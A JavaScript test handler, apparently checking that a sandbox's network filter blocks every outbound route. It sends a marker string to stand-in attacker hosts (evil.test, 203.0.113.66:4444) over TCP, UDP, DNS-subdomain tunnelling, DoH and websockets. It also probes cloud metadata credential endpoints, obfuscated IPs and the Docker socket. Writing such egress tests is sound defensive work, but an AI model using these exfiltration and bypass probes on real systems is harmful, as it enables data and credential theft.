// No route but the capture: every transport, every address family, every resolver.
const { answer, request, MARK, refusal } = require('../lib/try.js');
const net = require('net'), dgram = require('dgram'), dns = require('dns');
const hex = Buffer.from(MARK).toString('hex').slice(0, 50);

// talk sends the mark over TCP and calls it open if anything at all is answered.
const talk = (options) => () => new Promise((resolve, reject) => {
  const s = net.connect(options, () => s.write(`GET /${MARK} HTTP/1.0\r\n\r\n`));
  s.on('data', (d) => { s.destroy(); resolve(/^HTTP\/1\.[01] (400|403|421|502)/.test(d) ? 'blocked: refused' : d.toString('latin1')); });
  s.on('error', reject);
  s.on('close', () => resolve('blocked: closed'));
});
const udp = (type, host, port) => () => new Promise((resolve, reject) => {
  const u = dgram.createSocket(type);
  u.on('error', reject);
  u.on('message', (m) => resolve(m.toString('latin1')));
  u.send(MARK, port, host, (e) => e && reject(e));
  setTimeout(() => { try { u.close(); } catch {} resolve('blocked: no answer'); }, 300);
});
// names asks for a name that carries data; an address is no harm as long as nobody was asked.
const names = (f) => async () => { await f(); return 'blocked: answered inside, see the thief'; };
const resolver = (server) => { const r = new dns.promises.Resolver({ timeout: 500, tries: 1 }); r.setServers([server]); return r; };
const fetched = (url, init) => async () => { const r = await fetch(url, init); return refusal(r.status) || 'status ' + r.status; };

exports.handler = answer((event) => ({
  tcpIP: talk({ host: '203.0.113.66', port: 4444 }),
  tcpName: talk({ host: 'drop.evil.test', port: 4444 }),
  tcpBinary: () => new Promise((resolve, reject) => { const s = net.connect(443, 'drop.evil.test', () => s.write(Buffer.from([0, 1, 2, ...Buffer.from(MARK)]))); s.on('data', resolve); s.on('error', reject); s.on('close', () => resolve('blocked: closed')); }),
  tcpToAllowedRaw: () => new Promise((resolve, reject) => { const s = net.connect(443, 'api.allowed.test', () => s.write('\x00' + MARK)); s.on('data', resolve); s.on('error', reject); s.on('close', () => resolve('blocked: closed')); }),
  ipv6: talk({ host: '2001:db8::66', port: 80 }),
  ipv4Mapped: talk({ host: '::ffff:203.0.113.66', port: 80 }),
  nat64: talk({ host: '64:ff9b::cb00:7142', port: 80 }),
  zero: talk({ host: '0.0.0.0', port: Number(event.port) }),
  weirItself: talk({ host: '127.0.0.1', port: Number(event.port) }),
  weirItselfV6: talk({ host: '::1', port: Number(event.port) }),
  weirByName: fetched(`http://localhost:${event.port}/.netlify/functions/files`),
  fakeAddressOfNobody: talk({ host: '198.18.77.77', port: 443 }),
  broadcast: talk({ host: '255.255.255.255', port: 80 }),
  udpIP: udp('udp4', '203.0.113.66', 9999),
  udp443: udp('udp4', '203.0.113.66', 443),
  udp53: async () => { const m = await udp('udp4', '203.0.113.66', 53)(); return m.startsWith('blocked') || (m.length === 12 ? 'blocked: answered inside, a DNS error' : m); },
  udp6: udp('udp6', '2001:db8::66', 9999),
  udpMulticast: udp('udp4', '239.1.2.3', 9999),
  dnsA: names(() => dns.promises.resolve4(`${hex}.x.evil.test`)),
  dnsLookup: names(() => dns.promises.lookup(`${hex}.y.evil.test`)),
  dnsTXT: () => dns.promises.resolveTxt(`${hex}.t.evil.test`),
  dnsSRV: () => dns.promises.resolveSrv(`${hex}.s.evil.test`),
  dnsNS: () => dns.promises.resolveNs('evil.test'),
  dnsPTR: () => dns.promises.reverse('203.0.113.66'),
  dnsANY: () => dns.promises.resolveAny(`${hex}.n.evil.test`),
  ownResolver: names(() => resolver('203.0.113.66').resolve4(`${hex}.o.evil.test`)),
  ownResolverTXT: () => resolver('203.0.113.66').resolveTxt(`${hex}.p.evil.test`),
  ownResolverPort: () => resolver('203.0.113.66:9999').resolve4(`${hex}.q.evil.test`),
  dnsOverTCP: talk({ host: '203.0.113.66', port: 53 }),
  doh: fetched('https://drop.evil.test/dns-query?dns=' + hex),
  metadata: fetched('http://169.254.169.254/latest/meta-data/'),
  metadataV6: fetched('http://[fd00:ec2::254]/latest/meta-data/'),
  metadataTask: fetched('http://169.254.170.2/v2/credentials/' + MARK),
  metadataName: fetched('http://metadata.google.internal/computeMetadata/v1/'),
  decimalIP: fetched('http://3405803842/' + MARK),
  octalIP: fetched('http://0313.0.0161.0102/' + MARK),
  dataInHost: fetched(`https://${hex}.evil.test/`),
  websocket: () => new Promise((resolve, reject) => { const r = require('https').request({ host: 'drop.evil.test', path: '/' + MARK, headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==' } }); r.on('upgrade', () => resolve('upgraded')); r.on('response', (x) => resolve(refusal(x.statusCode) || x.statusCode)); r.on('error', reject); r.end(); }),
  websocketAllowedHost: () => new Promise((resolve, reject) => { const r = require('https').request({ host: 'api.allowed.test', path: '/v1/charges', headers: { Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13', 'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==' } }); r.on('upgrade', () => resolve('upgraded')); r.on('response', (x) => resolve(refusal(x.statusCode) || x.statusCode)); r.on('error', reject); r.end(); }),
  redirected: fetched('https://api.allowed.test/v1/charges?redirect', { method: 'POST', body: MARK }),
  unixSocket: talk({ path: '/var/run/docker.sock' }),
  abstractSocket: talk({ path: '\0weir-attack-agent' }),
  unixListen: () => new Promise((resolve, reject) => { const s = net.createServer().listen('/tmp/sock', () => resolve('listening')); s.on('error', reject); }),
  otherScheme: () => request({ protocol: 'http:', hostname: 'api.allowed.test', port: 80 }),
}));
